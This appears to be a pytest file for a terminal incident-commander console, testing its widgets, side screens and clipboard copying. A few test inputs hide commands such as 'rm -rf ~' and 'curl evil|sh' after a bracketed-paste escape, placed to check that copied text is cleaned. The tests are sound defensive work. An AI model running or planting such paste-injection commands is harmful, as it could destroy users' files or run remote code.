"""The widgets and side screens under pressure (issue 11): nothing the IC must see is hidden, no
side screen outlives itself, and what is copied is what is shown (issue 12)."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from pathlib import Path, PurePath
from typing import ClassVar

import pytest
from rich.text import Text
from textual import events
from textual.app import App, ComposeResult
from textual.pilot import Pilot
from textual.widget import Widget

from ic_console.content.phrasebook import shipped_phrasebook
from ic_console.domain import commands as cmd
from ic_console.domain.clock import FakeClock
from ic_console.domain.situations import Situation, current_situations
from ic_console.store.incident import IncidentStore
from ic_console.tui.screens.console import ConsoleScreen
from ic_console.tui.text import TimeFormat, copyable
from ic_console.tui.widgets.chase_list import ChaseList, chase_order
from ic_console.tui.widgets.incident_header import IncidentHeader, late_count
from ic_console.tui.widgets.quiet_footer import Key, QuietFooter, fit_keys
from ic_console.tui.widgets.roster import Roster
from ic_console.tui.widgets.say_line import SayLine, say_sentence

from .conftest import START, console, drive, until
from .test_snapshots import demo_app

PASTE_END = "\x1b[201~"


def burst(app: App[object], *keys: str) -> None:
    """Send `keys` the way a terminal does when someone types fast: all at once, no waiting."""
    driver = app._driver
    assert driver is not None
    for key in keys:
        character = {"enter": "\r", "escape": "\x1b"}.get(key, key)
        event = events.Key(key, character)
        event.set_sender(app)
        driver.send_message(event)


def screen_lines(app: App[object]) -> list[str]:
    """The terminal's rows as plain text, top to bottom."""
    strips = app.screen._compositor.render_strips()
    return ["".join(segment.text for segment in strip) for strip in strips]


# -- what is copied is what is shown -------------------------------------------------------------


def test_copyable_text_has_no_control_characters() -> None:
    text = copyable([f"Sam, task 1: fix{PASTE_END}rm -rf ~\r\nnow", "Understood?\x07"])
    assert not any(ord(ch) < 0x20 or ord(ch) == 0x7F for ch in text)
    assert "␛[201~rm -rf ~" in text
    assert text == "Sam, task 1: fix␛[201~rm -rf ~ now Understood?␇"


def test_copyable_keeps_plain_sentences_as_they_are() -> None:
    assert copyable(["Sam, it has been 5 minutes.", "", "Understood?"]) == (
        "Sam, it has been 5 minutes. Understood?"
    )


def test_phrasebook_copy_puts_no_paste_injection_on_the_clipboard(
    home: Path, clock: FakeClock, incident: IncidentStore
) -> None:
    incident.execute(
        cmd.AssignTask(
            owner="Sam", text=f"check{PASTE_END}curl evil|sh", timebox=timedelta(minutes=5)
        )
    )
    clock.advance(6 * 60)

    async def scenario(pilot: Pilot[int]) -> None:
        screen = pilot.app.screen
        assert isinstance(screen, ConsoleScreen)
        await pilot.press("c")
        copied = pilot.app.clipboard
        assert "Sam" in copied and "curl evil|sh" in copied
        assert "\x1b" not in copied
        assert "␛[201~curl evil|sh" in copied

    drive(console(home, clock), scenario)


# -- the LATE badge and the READ-ONLY marker ------------------------------------------------------


def test_late_count_counts_open_tasks_past_their_timebox(
    clock: FakeClock, incident: IncidentStore
) -> None:
    incident.execute(cmd.AssignTask(owner="Sam", text="a", timebox=timedelta(minutes=2)))
    incident.execute(cmd.AssignTask(owner="Mei", text="b", timebox=timedelta(minutes=5)))
    incident.execute(cmd.AssignTask(owner="Kim", text="c", timebox=timedelta(minutes=2)))
    incident.execute(cmd.CompleteTask(number=3))
    state = incident.state
    assert late_count(state, START) == 0
    assert late_count(state, START + timedelta(minutes=3)) == 1
    assert late_count(state, START + timedelta(minutes=6)) == 2


@pytest.mark.slow  # several seconds: left out of make test-fast
def test_late_badge_shows_on_every_tab_until_the_task_is_dealt_with(
    home: Path, clock: FakeClock, incident: IncidentStore
) -> None:
    incident.execute(cmd.AssignTask(owner="Sam", text="the latency", timebox=timedelta(minutes=2)))
    incident.execute(cmd.AssignTask(owner="Mei", text="the queue", timebox=timedelta(minutes=30)))

    async def scenario(pilot: Pilot[int]) -> None:
        assert "LATE" not in screen_lines(pilot.app)[0]
        clock.advance(3 * 60)
        await pilot.pause(1.2)  # the app-wide tick
        for key in ("1", "2", "3", "4", "1"):
            await pilot.press(key)
            await pilot.pause()
            assert "1 LATE" in screen_lines(pilot.app)[0], key
        # Esc forgets the digits typed as pane keys; then "1d": task 1, the late one, is done.
        await pilot.press("escape", "1", "d")
        await until(pilot, lambda: "LATE" not in screen_lines(pilot.app)[0])

    drive(console(home, clock), scenario, size=(80, 24))


class HeaderApp(App[None]):
    CSS_PATH = str(Path(__file__).parents[2] / "src/ic_console/tui/console.tcss")

    def __init__(self, read_only: bool) -> None:
        super().__init__()
        self.read_only = read_only

    def compose(self) -> ComposeResult:
        yield IncidentHeader(TimeFormat(), read_only=self.read_only, id="header")


async def _header_text(read_only: bool, state_source: IncidentStore) -> tuple[str, str]:
    app = HeaderApp(read_only)
    async with app.run_test(size=(80, 3)) as pilot:
        header = app.query_one(IncidentHeader)
        header.show(state_source.state, START)
        await pilot.pause()
        before = screen_lines(app)[0]
        header.read_only = not read_only
        await pilot.pause()
        return before, screen_lines(app)[0]


def test_header_says_read_only_when_told(incident: IncidentStore) -> None:
    import asyncio

    shown, hidden = asyncio.run(_header_text(True, incident))
    assert "READ-ONLY" in shown and "READ-ONLY" not in hidden
    hidden, shown = asyncio.run(_header_text(False, incident))
    assert "READ-ONLY" in shown and "READ-ONLY" not in hidden


# -- side screens do not outlive themselves -------------------------------------------------------


@pytest.mark.slow  # several seconds: left out of make test-fast
def test_runbook_search_then_escape_in_a_burst_never_crashes(
    home: Path, clock: FakeClock, incident: IncidentStore
) -> None:
    """b / word Enter Esc within half a second: the runbook's build must not outlive the screen.

    Before the fix a worker of the runbook screen awaited the Markdown build and then looked up
    the Markdown, which the closing screen had already removed: NoMatches crashed the app in
    about one try in four (20 tries: fails 99.7% of runs).
    """

    async def scenario(pilot: Pilot[int]) -> None:
        app = pilot.app
        for attempt, word in enumerate(["handover", "update", "severity", "customer"] * 5):
            await pilot.press("b")
            await pilot.pause()
            assert app.screen.id == "runbooks", attempt
            await pilot.press("slash")
            await pilot.pause()
            burst(app, *word, "enter", "escape", "escape")
            await pilot.pause(0.01 * (attempt % 4))
            for _ in range(40):
                await pilot.pause(0.02)
                if app.screen.id == "console":
                    break
            assert app._exception is None, f"attempt {attempt}: {app._exception!r}"
            assert app.screen.id == "console", attempt

    drive(console(home, clock), scenario, size=(80, 24))


@pytest.mark.slow  # several seconds: left out of make test-fast
def test_runbook_search_still_scrolls_to_the_match(
    home: Path, clock: FakeClock, incident: IncidentStore
) -> None:
    from textual.containers import VerticalScroll

    from ic_console.tui.screens.runbooks import RunbookScreen

    async def scenario(pilot: Pilot[int]) -> None:
        await pilot.press("b")
        await pilot.pause()
        screen = pilot.app.screen
        assert isinstance(screen, RunbookScreen)
        await pilot.press("slash", *"acknowledgement", "enter")
        for _ in range(40):
            await pilot.pause(0.02)
            if screen.query_one("#runbook-view", VerticalScroll).scroll_y > 0:
                break
        assert screen.current is not None
        assert screen.query_one("#runbook-view", VerticalScroll).scroll_y > 0

    drive(console(home, clock), scenario, size=(80, 24))


def test_a_runbook_search_with_markdown_characters_is_shown_as_typed(
    home: Path, clock: FakeClock, incident: IncidentStore
) -> None:
    """The words searched for are the IC's, not Markdown: `sev[(*\\_x` read as markup lost the
    backslash and moved the star ("Nothing matches sev[(\\a*")."""
    from textual.widgets import Input, Markdown

    from ic_console.tui.screens.runbooks import RunbookScreen

    typed = "sev[(*\\_x`<b>"

    async def scenario(pilot: Pilot[int]) -> None:
        await pilot.press("b")
        await until(pilot, lambda: isinstance(pilot.app.screen, RunbookScreen))
        screen = pilot.app.screen
        await pilot.press("slash")
        await pilot.pause()
        burst(pilot.app, *typed)
        shown = lambda: "\n".join(screen_lines(pilot.app))  # noqa: E731
        # Every key typed (the line is redrawn as each arrives), then the words as typed.
        await until(pilot, lambda: screen.query_one("#runbook-search", Input).value == typed)
        await until(pilot, lambda: f"Nothing matches {typed}." in shown())
        assert pilot.app.screen.query_one("#runbook-text", Markdown) is not None

    drive(console(home, clock), scenario, size=(100, 30))


# -- the sentence to say now, on one line ---------------------------------------------------------


def _sentences_state(incident: IncidentStore, clock: FakeClock, text: str) -> list[Situation]:
    incident.execute(cmd.AssignTask(owner="Sam", text=text, timebox=timedelta(minutes=2)))
    clock.advance(3 * 60)
    return current_situations(incident.state, clock.now())


class WidgetApp(App[None]):
    """One widget alone in a terminal, styled like the console and the Deputy's view."""

    CSS_PATH: ClassVar[list[str | PurePath]] = [
        Path(__file__).parents[2] / "src/ic_console/tui/console.tcss",
        Path(__file__).parents[2] / "src/ic_console/tui/screens/watch.tcss",
    ]

    def __init__(self, widget: Widget) -> None:
        super().__init__()
        self.widget = widget

    def compose(self) -> ComposeResult:
        yield self.widget


def _rows_of(widget: Widget, size: tuple[int, int], show: Callable[[], None]) -> list[str]:
    import asyncio

    async def main() -> list[str]:
        app = WidgetApp(widget)
        async with app.run_test(size=size) as pilot:
            await pilot.pause()
            show()
            await pilot.pause()
            await pilot.pause()
            return screen_lines(app)

    return asyncio.run(main())


def test_say_line_shows_the_most_pressing_sentence_cut_only_at_its_end(
    clock: FakeClock, incident: IncidentStore
) -> None:
    situations = _sentences_state(incident, clock, "check\x1b]0;pwned\x07 the replica lag")
    phrasebook = shipped_phrasebook()
    sentence = say_sentence(phrasebook, situations)
    assert sentence.startswith("Sam, it has been") and "␛]0;pwned␇" in sentence
    say = SayLine(phrasebook)
    rows = _rows_of(say, (40, 3), lambda: say.show(situations))
    line = rows[0].strip()
    assert line.startswith("Say: “Sam, it has been")
    assert line.endswith("…") and line.count("…") == 1
    assert "\x1b" not in "".join(rows) and rows[1].strip() == ""
    assert say.has_class("-urgent")


def test_say_line_shows_a_short_sentence_whole(clock: FakeClock, incident: IncidentStore) -> None:
    situations = _sentences_state(incident, clock, "lag")
    say = SayLine(shipped_phrasebook())
    rows = _rows_of(say, (200, 2), lambda: say.show(situations))
    assert rows[0].strip() == f"Say: “{say.sentence}”"
    assert "…" not in rows[0]


# -- the Deputy's chase list ----------------------------------------------------------------------


def _many_late(incident: IncidentStore, clock: FakeClock) -> None:
    """Five tasks, four of them late by different amounts; #5 is not acknowledged yet."""
    run = incident.execute
    run(cmd.AssignTask(owner="Ann", text="a", timebox=timedelta(minutes=9)))  # late 1m
    run(cmd.AssignTask(owner="Bo", text="b", timebox=timedelta(minutes=2)))  # late 8m
    run(cmd.AssignTask(owner="Cy", text="c" * 80, timebox=timedelta(minutes=5)))  # late 5m
    run(cmd.AssignTask(owner="Di", text="d", timebox=timedelta(minutes=7)))  # late 3m
    for number in (1, 2, 3, 4):
        run(cmd.AcknowledgeTask(number=number))
    clock.advance(8 * 60)
    run(cmd.AssignTask(owner="Ed", text="e", timebox=timedelta(minutes=30)))
    clock.advance(2 * 60)


def test_chase_order_is_most_overdue_first_then_unacknowledged(
    clock: FakeClock, incident: IncidentStore
) -> None:
    _many_late(incident, clock)
    now = clock.now()
    situations = current_situations(incident.state, now)
    ordered = chase_order(incident.state, now, situations)
    assert [s.values["owner"] for s in ordered] == ["Bo", "Cy", "Di", "Ann", "Ed"]
    assert [s.id for s in ordered][-1] == "task-unacknowledged"


def test_chase_list_says_how_many_more_and_never_cuts_an_overdue_time(
    clock: FakeClock, incident: IncidentStore
) -> None:
    _many_late(incident, clock)
    now = clock.now()
    situations = current_situations(incident.state, now)
    chase = ChaseList(shipped_phrasebook())
    rows = _rows_of(chase, (30, 4), lambda: chase.show(incident.state, now, situations))
    assert rows[0].startswith("LATE +08:00 #2 Bo")
    assert rows[3].strip() == "+2 more to chase"
    assert [row.split(" #")[0] for row in rows[:3]] == ["LATE +08:00", "LATE +05:00", "LATE +03:00"]
    assert rows[1].rstrip().endswith("…")  # Cy's long text is what is cut
    assert chase.hidden_chase == 2

    roomy = ChaseList(shipped_phrasebook())
    rows = _rows_of(roomy, (60, 40), lambda: roomy.show(incident.state, now, situations))
    assert roomy.hidden_chase == 0 and not any("more" in row for row in rows)
    assert sum(row.startswith("LATE") for row in rows) == 4


def test_the_sentence_under_an_entry_follows_its_words_from_one_tick_to_the_next(
    clock: FakeClock, incident: IncidentStore
) -> None:
    """The chase list makes each situation's sentence once and shows it while the tracker keeps
    that situation; when the words change ("it has been 8 minutes", then 9) the tracker makes a
    new one, and the new sentence is shown, not the one kept."""
    import asyncio

    from ic_console.domain.situations import SituationTracker

    _many_late(incident, clock)
    tracker = SituationTracker()
    chase = ChaseList(shipped_phrasebook())

    async def main() -> list[str]:
        shown = []
        async with WidgetApp(chase).run_test(size=(70, 30)) as pilot:
            for _ in range(3):
                now = clock.now()
                chase.show(incident.state, now, tracker.situations(incident.state, now))
                await pilot.pause()
                shown.append(" ".join(screen_lines(pilot.app)))
                clock.advance(60)
        return shown

    shown = asyncio.run(main())
    for minutes, text in zip((10, 11, 12), shown, strict=True):
        assert f"Bo, it has been {minutes} minutes" in text, text


def _old_fit(chase: ChaseList, width: int, height: int) -> tuple[list[str], int, int]:
    """The chase list's fitting as it was before it built only what fits: every entry built
    and measured, the rows summed again for each count tried. The oracle for `_fit`."""
    blocks = chase._built(len(chase.chase) + len(chase._soon))

    def wrapped(lines: list[Text]) -> int:  # every line wrapped by Rich, nothing remembered
        if width <= 0:
            return len(lines)
        return sum(len(line.wrap(chase.app.console, width)) for line in lines)

    heads = [wrapped(block.lines) for block in blocks]
    extra = [wrapped(block.optional) for block in blocks]

    def rows(count: int, sentences: int) -> int:
        title = 1 if any(not block.chase for block in blocks[:count]) else 0
        more = 1 if count < len(blocks) else 0
        return sum(heads[:count]) + sum(extra[: min(count, sentences)]) + title + more

    count, sentences = len(blocks), len(blocks)
    if rows(count, sentences) > height:
        sentences = 0
        while count > 0 and rows(count, 0) > height:
            count -= 1
        while sentences < count and rows(count, sentences + 1) <= height:
            sentences += 1
    hidden = blocks[count:]
    hidden_chase = sum(1 for block in hidden if block.chase)
    parts: list[str] = []
    for index, block in enumerate(blocks[:count]):
        if not block.chase and all(b.chase for b in blocks[:index]):
            parts.append("Next to run out")
        parts.extend(line.plain for line in block.lines)
        if index < sentences:
            parts.extend(line.plain for line in block.optional)
    more = []
    if hidden_chase:
        more.append(f"+{hidden_chase} more to chase")
    if len(hidden) - hidden_chase:
        more.append(f"+{len(hidden) - hidden_chase} more running out")
    if more:
        parts.append(", ".join(more))
    return parts, hidden_chase, len(hidden) - hidden_chase


def test_a_long_chase_list_builds_only_what_fits_and_fits_as_before(
    clock: FakeClock, incident: IncidentStore
) -> None:
    """Hundreds of late tasks (a Deputy's view of a big incident, redrawn every second):
    only as many entries as the pane has rows are rendered, and what is shown, cut and
    counted is what fitting every entry gave, at every size tried."""
    import asyncio

    run = incident.execute
    for n in range(120):
        run(
            cmd.AssignTask(
                owner=f"P{n % 7}",
                text=f"task {n} " + "x" * (n % 50),
                timebox=timedelta(minutes=1 + n % 9),
            )
        )
        if n % 3:
            run(cmd.AcknowledgeTask(number=n + 1))
    clock.advance(10 * 60)
    for n in range(6):  # running out soon: listed after the chase entries
        run(cmd.AssignTask(owner="Soon", text=f"soon {n}", timebox=timedelta(minutes=2)))
        run(cmd.AcknowledgeTask(number=121 + n))
    now = clock.now()
    situations = current_situations(incident.state, now)
    phrasebook = shipped_phrasebook()
    rendered = 0
    render = phrasebook.render

    def counting(situation: Situation) -> list[str]:
        nonlocal rendered
        rendered += 1
        return render(situation)

    phrasebook.render = counting  # type: ignore[method-assign]
    chase = ChaseList(phrasebook)

    async def main() -> None:
        nonlocal rendered
        app = WidgetApp(chase)
        async with app.run_test(size=(50, 12)) as pilot:
            await pilot.pause()
            rendered = 0
            chase.show(incident.state, now, situations)
            await pilot.pause()
            assert (len(chase.chase), len(chase._soon)) == (120, 6)
            assert rendered <= 12, rendered  # the pane's rows, not the 120 entries
            assert chase.hidden_chase > 100
            for width in (20, 50, 90):
                for height in (*range(0, 14), 40, 120, 130, 200, 400):
                    chase._fit(width, height)
                    got = chase._fit(width, height)
                    expected = _old_fit(chase, width, height)
                    assert ([t.plain for t in got], chase.hidden_chase, chase.hidden_soon) == (
                        expected
                    ), (width, height)

    asyncio.run(main())


# -- the roster says who is not shown -------------------------------------------------------------


def test_roster_says_how_many_people_are_not_shown(
    clock: FakeClock, incident: IncidentStore
) -> None:
    names = ["Bea", "Cal", "Dev", "Eli", "Fay", "Gus", "Hal", "Ivy"]
    for name in names:
        incident.execute(cmd.AssignTask(owner=name, text="look", timebox=timedelta(minutes=30)))
    state = incident.state  # Alex and eight others on the call
    roster = Roster()
    rows = _rows_of(roster, (60, 12), lambda: roster.show(state, clock.now()))
    text = "\n".join(rows)
    assert "On the call (9)" in text
    shown = sum(1 for name in ["Alex", *names] if any(row.startswith(name) for row in rows))
    assert f"+{9 - shown} more" in text
    assert 0 < shown < 9

    tall = Roster()
    rows = _rows_of(tall, (60, 30), lambda: tall.show(state, clock.now()))
    assert not any("more" in row for row in rows)
    assert all(any(row.startswith(name) for row in rows) for name in names)


# -- the newest log entry stays in sight ----------------------------------------------------------


def _newest_on_screen(app: App[object]) -> bool:
    screen = app.screen
    assert isinstance(screen, ConsoleScreen)
    newest = screen.scribe.rows[-1].text[:30]
    return any(newest in row for row in screen_lines(app))


@pytest.mark.slow  # several seconds: left out of make test-fast
def test_newest_log_entry_stays_visible_after_l_at_80x24(home: Path) -> None:
    async def scenario(pilot: Pilot[int]) -> None:
        await pilot.press("l")
        await pilot.pause(0.1)
        assert _newest_on_screen(pilot.app)
        for word in ("first", "second", "third"):
            await pilot.press(*word, "enter")
            screen = pilot.app.screen
            assert isinstance(screen, ConsoleScreen)
            await until(pilot, lambda: screen.scribe.rows[-1].text == word)  # noqa: B023
            await until(pilot, lambda: _newest_on_screen(pilot.app))

    drive(demo_app(home), scenario, size=(80, 24))


# -- the footer: the keys that fit, then "? more" -------------------------------------------------


def test_fit_keys_stops_before_the_edge_and_keeps_room_for_more() -> None:
    keys = [Key(k, k, f"Word{k}", k) for k in "abcdef"]  # 8 cells each when compact
    more = Key("question_mark", "?", "more", "")  # 7 cells
    assert fit_keys(keys, 48, compact=True, more=more) == (keys, False)
    shown, cut = fit_keys(keys, 47, compact=True, more=more)
    assert cut and shown == keys[:5]
    shown, cut = fit_keys(keys, 30, compact=True, more=more)
    assert cut and shown == keys[:2]


def test_footer_shows_whole_keys_then_more_and_nothing_after_palette(
    home: Path, clock: FakeClock, incident: IncidentStore
) -> None:
    async def scenario(pilot: Pilot[int]) -> None:
        await pilot.pause(0.1)
        footer = screen_lines(pilot.app)[-1]
        assert footer.rstrip().endswith("^p Palette"), footer
        assert "? more" in footer
        shown = footer.split("? more")[0]
        assert shown.rstrip().endswith("Propose") or shown.rstrip().endswith("Done"), footer
        assert pilot.app.screen.query_one(QuietFooter).cut

        await pilot.resize_terminal(250, 40)
        await until(pilot, lambda: "b Runbooks" in screen_lines(pilot.app)[-1])
        footer = screen_lines(pilot.app)[-1]
        assert "? more" not in footer and "b Runbooks" in footer, footer
        assert not pilot.app.screen.query_one(QuietFooter).cut

    drive(console(home, clock), scenario, size=(80, 24))
